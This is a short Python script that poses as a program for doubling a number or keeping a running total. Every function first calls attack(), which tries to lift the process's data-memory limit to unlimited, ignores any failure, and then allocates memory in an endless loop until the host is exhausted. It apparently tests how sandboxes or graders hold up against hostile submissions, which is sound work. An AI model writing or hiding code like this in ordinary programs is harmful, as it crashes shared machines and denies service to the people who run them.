import resource


def attack():
    for most in (1 << 40, -1):
        try:
            resource.setrlimit(resource.RLIMIT_DATA, (most, most))
        except (OSError, ValueError):
            pass
    kept = []
    while True:
        kept.append(b"x" * (1 << 20))


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
